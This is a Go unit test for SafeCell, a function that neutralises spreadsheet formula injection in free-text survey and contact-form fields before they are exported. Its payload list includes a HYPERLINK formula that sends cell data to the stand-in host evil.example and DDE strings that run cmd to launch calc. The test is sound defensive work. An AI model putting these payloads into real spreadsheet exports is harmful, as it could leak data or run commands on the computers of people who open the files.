package report

import "testing"

// Payloads an attacker might type into any free-text field of either
// instrument (visit q2_text and q3, satisfaction free) or a contact form.
var FormulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

func TestSafeCell(t *testing.T) {
	for _, p := range FormulaPayloads {
		if got := SafeCell(p); got != "'"+p {
			t.Errorf("SafeCell(%q) = %q", p, got)
		}
	}
	for _, ok := range []string{"", "Kiitos!", "Hyvä palvelu = hyvä mieli", "'already quoted"} {
		if got := SafeCell(ok); got != ok {
			t.Errorf("SafeCell(%q) = %q, want it unchanged", ok, got)
		}
	}
}
